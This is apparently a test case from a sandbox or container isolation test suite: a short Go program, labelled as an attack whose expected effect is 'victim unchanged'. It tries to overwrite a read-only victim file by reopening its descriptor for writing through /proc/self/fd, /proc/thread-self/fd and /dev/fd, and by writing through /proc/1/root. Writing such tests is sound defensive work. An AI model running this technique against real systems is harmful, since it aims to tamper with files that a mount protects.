// attack: open the victim read-only or O_PATH, then reopen it for writing through /proc/self/fd and /proc/thread-self/fd, and write via /proc/1/root
// category: files
// effect: victim unchanged
// via: read-only mount view (reopening through /proc checks the mount again)
// control: yes
package main

import (
	"fmt"
	"os"
	"syscall"
)

func main() {
	v := os.Getenv("RT_VICTIM")
	for _, flags := range []int{syscall.O_RDONLY, 0x200000 /* O_PATH */} {
		fd, err := syscall.Open(v, flags, 0)
		if err != nil {
			fmt.Println(err)
			continue
		}
		for _, p := range []string{fmt.Sprintf("/proc/self/fd/%d", fd), fmt.Sprintf("/proc/thread-self/fd/%d", fd), fmt.Sprintf("/dev/fd/%d", fd)} {
			if f, err := os.OpenFile(p, os.O_WRONLY|os.O_TRUNC, 0); err == nil {
				f.WriteString("pwned")
				f.Close()
				fmt.Println("wrote", p)
			} else {
				fmt.Println(err)
			}
		}
	}
	if err := os.WriteFile("/proc/1/root"+v, []byte("pwned"), 0o644); err != nil {
		fmt.Println(err)
	}
}
